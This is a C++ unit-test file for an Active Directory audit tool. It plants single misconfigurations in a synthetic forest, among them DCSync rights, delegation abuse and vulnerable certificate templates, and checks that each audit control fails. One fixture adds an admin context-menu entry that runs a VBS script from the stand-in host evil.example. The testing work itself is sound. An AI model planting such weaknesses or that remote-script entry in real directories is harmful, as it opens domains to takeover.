#include <gtest/gtest.h>

#include <algorithm>
#include <functional>
#include <string>

#include "egide/base/text.h"
#include "egide/directory/audit.h"
#include "forest.h"
#include "model/model.h"

namespace egide::directory {
namespace {

using testing::descriptor_bytes;
using testing::Entry;
using testing::Forest;
using testing::sid_bytes;

const ControlResult& result_of(const Audit& audit, const std::string& id) {
    const auto at = std::find_if(audit.controls.begin(), audit.controls.end(),
                                 [&](const ControlResult& control) { return control.id == id; });
    EXPECT_NE(at, audit.controls.end()) << id;
    return *at;
}

std::string story(const Audit& audit, const ControlResult& control) {
    std::string out = std::string(control.id) + " " + base::render(control.title, base::Language::english) + "\n";
    if (!control.cause.empty()) {
        out += "  not evaluable: " + base::render(control.cause, base::Language::english) + "\n";
    }
    for (const Finding& finding : control.findings) {
        const Evidence evidence = audit.evidence(control, finding);
        out += "  [" + std::to_string(finding.level) + "] " + std::string(evidence.dn) + ": " +
               base::render(evidence.why, base::Language::english) + "\n";
    }
    return out;
}

TEST(Controls, SoundForestFailsNothing) {
    const Audit judged = audit(Forest().read());
    ASSERT_EQ(judged.controls.size(), 76u);
    for (const ControlResult& control : judged.controls) {
        EXPECT_EQ(control.outcome, Outcome::pass) << story(judged, control);
    }
    EXPECT_EQ(judged.level, 5);
    EXPECT_TRUE(judged.level_certain);
}

/// One weakness planted in the sound forest, the control that must fail, at which level, with how many findings.
struct Flip {
    std::string name;
    std::string control;
    int level;
    std::size_t findings;
    std::function<void(Forest&)> plant;
};

const std::string kRoot = "DC=corp,DC=test";
const std::string kController = "CN=DC1,OU=Domain Controllers,DC=corp,DC=test";
const std::string kConfiguration = "CN=Configuration,DC=corp,DC=test";
const std::string kHolder = "CN=AdminSDHolder,CN=System,DC=corp,DC=test";
constexpr const char* kOld = "129000000000000000";     // October 2009
constexpr const char* kRecent = "133920000000000000";  // May 2025

void admin(Forest& forest, const std::string& name, std::uint32_t rid, const Forest::Values& values = {}) {
    forest.user(name, rid, values);
    forest.append(Forest::user_dn(name), "adminCount", "1");
    forest.append(Forest::group_dn("Domain Admins"), "member", Forest::user_dn(name));
}

void plain(Forest& forest) {
    forest.user("mallory", 3001);
}

std::vector<Entry> full(std::uint32_t rid) {
    return {{Forest::sid(rid), access::kFull}};
}

void read_only(Forest& forest) {
    forest.add("CN=RODC1,OU=Domain Controllers,DC=corp,DC=test", "computer",
               {{"sAMAccountName", "RODC1$"},
                {"objectSid", sid_bytes(Forest::sid(1001))},
                {"userAccountControl", "83890176"},
                {"pwdLastSet", "134160000000000000"},
                {"lastLogonTimestamp", "134160000000000000"},
                {"primaryGroupID", "521"},
                {"msDS-SupportedEncryptionTypes", "24"}});
}

const Flip kFlips[] = {
    {"GuestEnabled", "vuln_guest", 2, 1, [](Forest& f) { f.set(Forest::user_dn("Guest"), "userAccountControl", "512"); }},
    {"OldKrbtgt", "vuln_krbtgt", 2, 1, [](Forest& f) { f.set(Forest::user_dn("krbtgt"), "pwdLastSet", kOld); }},
    {"PrivilegedNeverExpires", "vuln_dont_expire_priv", 1, 1, [](Forest& f) { admin(f, "adm", 3001, {{"userAccountControl", "66048"}}); }},
    {"ShareNeverExpires", "vuln_dont_expire", 2, 1, [](Forest& f) { f.user("u", 3001, {{"userAccountControl", "66048"}}); }},
    {"PrivilegedNoPreauth", "vuln_kerberos_properties_preauth_priv", 1, 1, [](Forest& f) { admin(f, "adm", 3001, {{"userAccountControl", "4194816"}}); }},
    {"NoPreauth", "vuln_kerberos_properties_preauth", 2, 1, [](Forest& f) { f.user("u", 3001, {{"userAccountControl", "4194816"}}); }},
    {"DesOnly", "vuln_kerberos_properties_deskey", 2, 1, [](Forest& f) { f.user("u", 3001, {{"userAccountControl", "2097664"}}); }},
    {"ServiceWithoutAes", "vuln_kerberos_properties_encryption", 3, 1, [](Forest& f) { f.user("u", 3001, {{"servicePrincipalName", "http/u"}, {"msDS-SupportedEncryptionTypes", "4"}}); }},
    {"PrivilegedService", "vuln_spn_priv", 1, 1, [](Forest& f) { admin(f, "adm", 3001, {{"servicePrincipalName", "http/adm"}}); }},
    {"PrivilegedReversible", "vuln_reversible_password_priv_uac", 3, 1, [](Forest& f) { admin(f, "adm", 3001, {{"userAccountControl", "640"}}); }},
    {"ReversibleDomain", "vuln_reversible_password_priv_namingcontext", 3, 1, [](Forest& f) { f.set(kRoot, "pwdProperties", "17"); }},
    {"ReservedPrimaryGroup", "vuln_primary_group_id_1000", 1, 1, [](Forest& f) { f.user("u", 3001, {{"primaryGroupID", "512"}}); }},
    {"ChangedPrimaryGroup", "vuln_primary_group_id_nochange", 3, 1, [](Forest& f) { f.user("u", 3001, {{"primaryGroupID", "1101"}}); }},
    {"DangerousHistory", "vuln_sidhistory_dangerous", 2, 1, [](Forest& f) { f.user("u", 3001, {{"sIDHistory", sid_bytes("S-1-5-21-9-9-9-512")}}); }},
    {"AnyHistory", "vuln_sidhistory_present", 3, 1, [](Forest& f) { f.user("u", 3001, {{"sIDHistory", sid_bytes("S-1-5-21-9-9-9-5000")}}); }},
    {"Dormant", "vuln_user_accounts_dormant", 1, 2, [](Forest& f) {
         for (const std::uint32_t rid : {3001u, 3002u}) {
             f.user("u" + std::to_string(rid), rid, {{"pwdLastSet", kOld}, {"lastLogonTimestamp", kOld}});
         }
     }},
    {"StaleController", "vuln_password_change_dc_no_change", 1, 1, [](Forest& f) { f.set(kController, "pwdLastSet", kRecent); }},
    {"SilentController", "vuln_password_change_inactive_dc", 1, 1, [](Forest& f) { f.set(kController, "lastLogonTimestamp", kRecent); }},
    {"OldPrivileged", "vuln_password_change_priv", 1, 1, [](Forest& f) { f.set(Forest::user_dn("Administrator"), "pwdLastSet", kOld); }},
    {"StaleServer", "vuln_password_change_server_no_change_90", 2, 1, [](Forest& f) { f.computer("srv", 3001, {{"operatingSystem", "Windows Server 2019"}, {"pwdLastSet", kRecent}}); }},
    {"SlightlyStaleServer", "vuln_password_change_server_no_change_45", 3, 1, [](Forest& f) { f.computer("srv", 3001, {{"operatingSystem", "Windows Server 2019"}, {"pwdLastSet", "134122000000000000"}}); }},
    {"SilentServer", "vuln_password_change_inactive_servers", 3, 1, [](Forest& f) { f.computer("srv", 3001, {{"operatingSystem", "Windows Server 2019"}, {"lastLogonTimestamp", kRecent}}); }},
    {"StaleCluster", "vuln_password_change_cluster_no_change_3years", 2, 1, [](Forest& f) { f.computer("clu", 3001, {{"servicePrincipalName", "MSClusterVirtualServer/clu"}, {"pwdLastSet", kOld}}); }},
    {"StaleManagedAccount", "vuln_password_change_msa_no_change_90", 2, 1, [](Forest& f) {
         f.add("CN=gmsa,OU=People,DC=corp,DC=test", "msDS-GroupManagedServiceAccount",
               {{"sAMAccountName", "gmsa$"}, {"objectSid", sid_bytes(Forest::sid(3001))}, {"userAccountControl", "4096"}, {"primaryGroupID", "515"}, {"pwdLastSet", kRecent}, {"msDS-SupportedEncryptionTypes", "24"}});
     }},
    {"OldTrustAccount", "vuln_trusts_accounts", 2, 1, [](Forest& f) { f.user("PARTNER$", 3001, {{"userAccountControl", "2080"}, {"pwdLastSet", kOld}}); }},
    {"TooManyPrivileged", "vuln_privileged_members", 1, 51, [](Forest& f) {
         for (std::uint32_t rid = 4000; rid < 4051; ++rid) {
             admin(f, "adm" + std::to_string(rid), rid);
         }
     }},
    {"ShortPolicy", "vuln_privileged_members_password", 2, 1, [](Forest& f) { f.set(kRoot, "minPwdLength", "7"); }},
    {"EndlessPolicy", "vuln_privileged_members_password", 2, 1, [](Forest& f) { f.set(kRoot, "maxPwdAge", "-9223372036854775808"); }},
    {"NoAdminCount", "vuln_privileged_members_no_admincount", 2, 1, [](Forest& f) { f.remove(Forest::user_dn("Administrator"), "adminCount"); }},
    {"Unprotected", "vuln_protected_users", 3, 1, [](Forest& f) { f.remove(Forest::group_dn("Protected Users"), "member"); }},
    {"NoSilo", "vuln_silo_priv", 4, 1, [](Forest& f) { f.remove(Forest::user_dn("Administrator"), "msDS-AssignedAuthNPolicySilo"); }},
    {"MissingHolder", "vuln_critical_objects", 1, 1, [](Forest& f) { f.erase(kHolder); }},
    {"UnreadPrivileged", "vuln_sd_failed_sd_read_on_priv", 3, 1, [](Forest& f) { f.owner(Forest::user_dn("Administrator"), ""); }},
    {"ControllerFlags", "vuln_dc_inconsistent_uac", 1, 1, [](Forest& f) { f.set(kController, "userAccountControl", "8192"); }},
    {"ControllerWithoutServer", "vuln_dc_inconsistent_uac", 1, 1, [](Forest& f) { f.erase("CN=DC1,CN=Servers,CN=Site1,CN=Sites," + kConfiguration); }},
    {"ObsoleteController", "vuln_dc_obsolete", 1, 1, [](Forest& f) { f.set(kController, "operatingSystem", "Windows Server 2012 R2 Standard").set(kController, "operatingSystemVersion", "6.3 (9600)"); }},
    {"ControllerRc4", "vuln_dc_crypto", 4, 1, [](Forest& f) { f.set(kController, "msDS-SupportedEncryptionTypes", "28"); }},
    {"ControllerNoAes", "vuln_dc_crypto", 3, 1, [](Forest& f) { f.remove(kController, "msDS-SupportedEncryptionTypes"); }},
    {"ControllerDes", "vuln_dc_crypto", 2, 1, [](Forest& f) { f.set(kController, "msDS-SupportedEncryptionTypes", "25"); }},
    {"DelegationToController", "vuln_delegation_a2d2", 1, 1, [](Forest& f) { f.user("u", 3001, {{"msDS-AllowedToDelegateTo", "ldap/dc1.corp.test"}}); }},
    {"TransitionToController", "vuln_delegation_t2a4d", 1, 1, [](Forest& f) { f.user("u", 3001, {{"userAccountControl", "16777728"}, {"msDS-AllowedToDelegateTo", "cifs/DC1"}}); }},
    {"Unconstrained", "vuln_delegation_t4d", 1, 1, [](Forest& f) { f.computer("c", 3001, {{"userAccountControl", "528384"}}); }},
    {"ResourceDelegation", "vuln_delegation_sourcedeleg", 1, 1, [](Forest& f) { plain(f); f.append(kController, "msDS-AllowedToActOnBehalfOfOtherIdentity", descriptor_bytes("S-1-5-32-544", full(3001))); }},
    {"ForeignMenu", "vuln_display_specifier", 1, 1, [](Forest& f) { f.add("CN=user-Display,CN=409,CN=DisplaySpecifiers," + kConfiguration, "displaySpecifier", {{"adminContextMenu", "1,{AAAA}"}, {"adminContextMenu", "2,&Go,\\\\evil.example\\share\\x.vbs"}}); }},
    {"OpenZone", "vuln_dnszone_bad_prop", 1, 1, [](Forest& f) { f.add("DC=corp.test,CN=MicrosoftDNS,DC=DomainDnsZones,DC=corp,DC=test", "dnsZone", {{"dNSProperty", std::string("\1\0\0\0\0\0\0\0\0\0\0\0\1\0\0\0\2\0\0\0\1", 21)}}); }},
    {"OtherOpenZone", "vuln_dnszone_bad_prop", 3, 1, [](Forest& f) { f.add("DC=other.test,CN=MicrosoftDNS,DC=DomainDnsZones,DC=corp,DC=test", "dnsZone", {{"dNSProperty", std::string("\1\0\0\0\0\0\0\0\0\0\0\0\1\0\0\0\2\0\0\0\1", 21)}}); }},
    {"AnonymousNspi", "vuln_dsheuristics_bad", 1, 1, [](Forest& f) { f.set("CN=Directory Service,CN=Windows NT,CN=Services," + kConfiguration, "dSHeuristics", "0000000101000000000200000001130"); }},
    {"UnsetHeuristics", "vuln_dsheuristics_bad", 4, 2, [](Forest& f) { f.remove("CN=Directory Service,CN=Windows NT,CN=Services," + kConfiguration, "dSHeuristics"); }},
    {"LevelOf2012R2", "vuln_functional_level", 4, 1, [](Forest& f) { f.set(kRoot, "msDS-Behavior-Version", "6"); }},
    {"LevelOf2008R2", "vuln_functional_level", 3, 1, [](Forest& f) { f.set(kRoot, "msDS-Behavior-Version", "4"); }},
    {"BadUpdate", "vuln_adupdate_bad", 2, 1, [](Forest& f) { f.set("CN=ActiveDirectoryUpdate,CN=DomainUpdates,CN=System,DC=corp,DC=test", "revision", "15"); }},
    {"Smartcard", "vuln_smartcard_expire_passwords", 4, 1, [](Forest& f) { f.remove(kRoot, "msDS-ExpirePasswordsOnSmartCardOnlyAccounts"); }},
    {"Quota", "vuln_user_accounts_machineaccountquota", 4, 1, [](Forest& f) { f.set(kRoot, "ms-DS-MachineAccountQuota", "10"); }},
    {"Ntfrs", "vuln_sysvol_ntfrs", 2, 1, [](Forest& f) {
         const std::string set = "CN=Domain System Volume (SYSVOL share),CN=File Replication Service,CN=System,DC=corp,DC=test";
         f.set("CN=DFSR-GlobalSettings,CN=System,DC=corp,DC=test", "msDFSR-Flags", "0");
         f.add(set, "nTFRSReplicaSet", {{"fRSReplicaSetType", "2"}}).add("CN=DC1," + set, "nTFRSMember", {{"frsComputerReference", kController}});
     }},
    {"UnfilteredTrust", "vuln_trusts_domain_notfiltered", 1, 1, [](Forest& f) { f.add("CN=p.example,CN=System,DC=corp,DC=test", "trustedDomain", {{"trustDirection", "2"}, {"trustType", "2"}, {"trustAttributes", "0"}, {"trustPartner", "p.example"}}); }},
    {"ForestTrustHistory", "vuln_trusts_forest_sidhistory", 1, 1, [](Forest& f) { f.add("CN=p.example,CN=System,DC=corp,DC=test", "trustedDomain", {{"trustDirection", "2"}, {"trustType", "2"}, {"trustAttributes", "72"}, {"trustPartner", "p.example"}}); }},
    {"TrustDelegation", "vuln_trusts_tgt_deleg", 3, 1, [](Forest& f) { f.add("CN=p.example,CN=System,DC=corp,DC=test", "trustedDomain", {{"trustDirection", "1"}, {"trustType", "2"}, {"trustAttributes", "2056"}, {"trustPartner", "p.example"}}); }},
    {"AnonymousCompatible", "vuln_compatible_2000_anonymous", 2, 1, [](Forest& f) { f.append("CN=Pre-Windows 2000 Compatible Access,CN=Builtin,DC=corp,DC=test", "member", "CN=S-1-5-7,CN=ForeignSecurityPrincipals,DC=corp,DC=test"); }},
    {"OtherCompatible", "vuln_compatible_2000_not_default", 3, 1, [](Forest& f) { plain(f); f.append("CN=Pre-Windows 2000 Compatible Access,CN=Builtin,DC=corp,DC=test", "member", Forest::user_dn("mallory")); }},
    {"DnsAdmin", "vuln_dnsadmins", 1, 1, [](Forest& f) { plain(f); f.append(Forest::group_dn("DnsAdmins"), "member", Forest::user_dn("mallory")); }},
    {"GroupLoop", "vuln_group_loop", 4, 2, [](Forest& f) { f.group("A", 3001, {Forest::group_dn("B")}).group("B", 3002, {Forest::group_dn("A")}); }},
    {"GroupInItself", "vuln_group_loop", 4, 1, [](Forest& f) { f.group("A", 3001, {Forest::group_dn("A")}); }},
    {"Revealed", "vuln_rodc_priv_revealed", 2, 1, [](Forest& f) { read_only(f); f.append("CN=RODC1,OU=Domain Controllers,DC=corp,DC=test", "msDS-RevealedUsers", "B:16:0011223344556677:" + Forest::user_dn("Administrator")); }},
    {"MayReveal", "vuln_rodc_never_reveal", 3, 5, [](Forest& f) { read_only(f); }},
    {"Reveals", "vuln_rodc_reveal", 3, 1, [](Forest& f) { read_only(f); f.append("CN=RODC1,OU=Domain Controllers,DC=corp,DC=test", "msDS-RevealOnDemandGroup", Forest::group_dn("Domain Users")); }},
    {"AllowedNotEmpty", "vuln_rodc_allowed_group", 3, 1, [](Forest& f) { plain(f); f.append(Forest::group_dn("Allowed RODC Password Replication Group"), "member", Forest::user_dn("mallory")); }},
    {"DeniedIncomplete", "vuln_rodc_denied_group", 3, 8, [](Forest& f) { f.remove(Forest::group_dn("Denied RODC Password Replication Group"), "member"); }},
    {"OrphanKrbtgt", "vuln_rodc_orphan_krbtgt", 3, 1, [](Forest& f) { f.user("krbtgt_1234", 3001, {{"userAccountControl", "514"}, {"msDS-SecondaryKrbTgtNumber", "1234"}}); }},
    {"HolderControlled", "vuln_permissions_adminsdholder", 1, 1, [](Forest& f) { plain(f); f.allow(kHolder, full(3001)); }},
    {"ControllerControlled", "vuln_permissions_dc", 1, 1, [](Forest& f) { plain(f); f.allow(kController, full(3001)); }},
    {"ControllerOwned", "vuln_permissions_dc", 2, 1, [](Forest& f) { plain(f); f.owner(kController, Forest::sid(3001)); }},
    {"ReplicationControlled", "vuln_permissions_dfsr_sysvol", 1, 1, [](Forest& f) { plain(f); f.allow("CN=DFSR-GlobalSettings,CN=System,DC=corp,DC=test", full(3001)); }},
    {"ReplicationChildren", "vuln_permissions_dfsr_sysvol", 2, 1, [](Forest& f) { plain(f); f.allow("CN=DFSR-GlobalSettings,CN=System,DC=corp,DC=test", {{Forest::sid(3001), access::kCreateChild}}); }},
    {"BackupKeyControlled", "vuln_permissions_dpapi", 1, 1, [](Forest& f) { plain(f); f.add("CN=BCKUPKEY_P Secret,CN=System,DC=corp,DC=test", "secret").allow("CN=BCKUPKEY_P Secret,CN=System,DC=corp,DC=test", full(3001)); }},
    {"RootKeysControlled", "vuln_permissions_gmsa_keys", 1, 1, [](Forest& f) { plain(f); const std::string keys = "CN=Master Root Keys,CN=Group Key Distribution Service,CN=Services," + kConfiguration; f.add(keys, "container").allow(keys, full(3001)); }},
    {"SchemaControlled", "vuln_permissions_schema", 1, 1, [](Forest& f) { plain(f); f.allow("CN=Schema," + kConfiguration, full(3001)); }},
    {"DnsControlled", "vuln_permissions_msdns", 1, 1, [](Forest& f) { plain(f); f.allow("CN=MicrosoftDNS,CN=System,DC=corp,DC=test", full(3001)); }},
    {"PrivilegedControlled", "vuln_privileged_members_perm", 1, 1, [](Forest& f) { plain(f); f.allow(Forest::user_dn("Administrator"), {{Forest::sid(3001), access::kControl, false, 0, "00299570-246d-11d0-a768-00aa006e0529"}}); }},
    {"PrivilegedSpnWritable", "vuln_privileged_members_perm", 2, 1, [](Forest& f) { plain(f); f.allow(Forest::user_dn("Administrator"), {{Forest::sid(3001), access::kWriteProperty, false, 0, "f3a64788-5306-11d1-a9c5-0000f80367c1"}}); }},
    {"DisabledController", "vuln_privileged_members_perm", 2, 1, [](Forest& f) { f.user("gone", 3001, {{"userAccountControl", "514"}}).allow(Forest::user_dn("Administrator"), full(3001)); }},
    {"LinkAbovePrivileged", "vuln_permissions_gpo_container_priv", 2, 1, [](Forest& f) { plain(f); f.allow("OU=People,DC=corp,DC=test", {{Forest::sid(3001), access::kWriteProperty, false, 0, "f30e3bbe-9ff0-11d1-b603-0000f80367c1"}}); }},
    {"PolicyControlled", "vuln_permissions_gpo_priv", 1, 1, [](Forest& f) {
         plain(f);
         const std::string policy = "CN={31B2F340-016D-11D2-945F-00C04FB984F9},CN=Policies,CN=System,DC=corp,DC=test";
         f.add(policy, "groupPolicyContainer").allow(policy, full(3001));
         f.set(kRoot, "gPLink", "[LDAP://" + policy + ";0]");
     }},
    {"DirectReplication", "vuln_permissions_naming_context", 1, 1, [](Forest& f) {
         plain(f);
         f.allow(kRoot, {{Forest::sid(3001), access::kControl, false, 0, "1131f6aa-9c07-11d1-f79f-00c04fc2dcd2"},
                         {Forest::sid(3001), access::kControl, false, 0, "1131f6ad-9c07-11d1-f79f-00c04fc2dcd2"}});
     }},
    {"TrapOfTheReplicationSplitOverTwoGroups", "vuln_permissions_naming_context", 1, 1, [](Forest& f) {
         plain(f);
         f.user("half", 3004);
         f.group("First", 3002, {Forest::user_dn("mallory"), Forest::user_dn("half")}).group("Second", 3003, {Forest::user_dn("mallory")});
         f.allow(kRoot, {{Forest::sid(3002), access::kControl, false, 0, "1131f6aa-9c07-11d1-f79f-00c04fc2dcd2"},
                         {Forest::sid(3003), access::kControl, false, 0, "1131f6ad-9c07-11d1-f79f-00c04fc2dcd2"}});
     }},
    {"ForeignOwner", "vuln_owner", 3, 1, [](Forest& f) { plain(f); f.user("u", 3002).owner(Forest::user_dn("u"), Forest::sid(3001)); }},
    {"TemplateControlled", "vuln_adcs_template_control", 2, 1, [](Forest& f) { plain(f); const std::string t = "CN=T,CN=Certificate Templates,CN=Public Key Services,CN=Services," + kConfiguration; f.add(t, "pKICertificateTemplate").allow(t, full(3001)); }},
    {"AuthoritiesControlled", "vuln_adcs_control", 1, 1, [](Forest& f) { plain(f); const std::string p = "CN=Public Key Services,CN=Services," + kConfiguration; f.add(p, "container").allow(p, full(3001)); }},
    {"NameOfTheRequester", "vuln_adcs_template_auth_enroll_with_name", 1, 1, [](Forest& f) {
         plain(f);
         const std::string p = ",CN=Public Key Services,CN=Services," + kConfiguration;
         f.add("CN=CA,CN=Enrollment Services" + p, "pKIEnrollmentService", {{"certificateTemplates", "Web"}});
         f.add("CN=Web,CN=Certificate Templates" + p, "pKICertificateTemplate", {{"pKIExtendedKeyUsage", "1.3.6.1.5.5.7.3.2"}, {"msPKI-Certificate-Name-Flag", "1"}, {"msPKI-Enrollment-Flag", "0"}, {"msPKI-RA-Signature", "0"}});
         f.allow("CN=Web,CN=Certificate Templates" + p, {{Forest::sid(3001), access::kControl, false, 0, "0e10c968-78fb-11d2-90d4-00c04f79dc55"}});
     }},
    {"UndecodableCertificate", "vuln_certificates_vuln", 2, 1, [](Forest& f) { f.user("u", 3001, {{"userCertificate", "no certificate"}}); }},
};

class ControlFlip : public ::testing::TestWithParam<Flip> {};

TEST_P(ControlFlip, FailsWhereTheWeaknessIsPlanted) {
    Forest forest;
    GetParam().plant(forest);
    const Audit judged = audit(forest.read());
    const ControlResult& control = result_of(judged, GetParam().control);
    EXPECT_EQ(control.outcome, Outcome::fail) << story(judged, control);
    EXPECT_EQ(control.failed_level, GetParam().level) << story(judged, control);
    EXPECT_EQ(control.findings.size(), GetParam().findings) << story(judged, control);
}

INSTANTIATE_TEST_SUITE_P(Planted, ControlFlip, ::testing::ValuesIn(kFlips),
                         [](const auto& planted) { return planted.param.name; });

TEST(Controls, EveryControlHasAWeaknessThatFailsIt) {
    for (const ControlResult& control : audit(Forest().read()).controls) {
        EXPECT_TRUE(std::any_of(std::begin(kFlips), std::end(kFlips), [&](const Flip& flip) {
            return flip.control == control.id;
        })) << control.id;
    }
}

TEST(Advisories, AreFiftyAndNeverChangeTheLevel) {
    Forest forest;
    forest.user("former", 3001, {{"adminCount", "1"}});
    const Audit judged = audit(forest.read());
    EXPECT_EQ(judged.advisories.size(), 50u);
    EXPECT_EQ(judged.level, 5);
    const auto at = std::find_if(judged.advisories.begin(), judged.advisories.end(),
                                 [](const ControlResult& each) { return each.id == "warning_admincount"; });
    ASSERT_NE(at, judged.advisories.end());
    EXPECT_EQ(at->findings.size(), 1u);
    for (const ControlResult& advisory : judged.advisories) {
        EXPECT_TRUE(advisory.outcome != Outcome::not_evaluable || !advisory.cause.empty()) << advisory.id;
    }
}

TEST(Controls, AcceptedWhenProtectedLikeAdminSdHolder) {
    Forest forest;
    plain(forest);
    forest.protect(Forest::user_dn("mallory"));
    forest.allow(Forest::user_dn("Administrator"), full(3001));
    EXPECT_EQ(result_of(audit(forest.read()), "vuln_privileged_members_perm").outcome, Outcome::pass)
        << "mallory has exactly the entries of AdminSDHolder, protected: an extra Tier-0 account";
    forest.allow(Forest::user_dn("mallory"), {{"S-1-5-11", access::kReadControl}});
    EXPECT_EQ(result_of(audit(forest.read()), "vuln_privileged_members_perm").outcome, Outcome::fail);
}

TEST(Controls, MissingColumnIsNeverAPass) {
    Forest forest;
    std::string text = forest.ldif();
    // An export that is not whole: nothing says that all attributes were asked for.
    for (std::size_t at = text.find("instanceType::"); at != std::string::npos; at = text.find("instanceType::")) {
        text.erase(at, text.find('\n', at) + 1 - at);
    }
    auto collection = read_ldif(text, "part.ldif");
    ASSERT_TRUE(collection.ok());
    const Audit judged = audit(*collection);
    EXPECT_EQ(result_of(judged, "vuln_sidhistory_present").outcome, Outcome::not_evaluable);
    EXPECT_FALSE(judged.level_certain);
}

}  // namespace
}  // namespace egide::directory
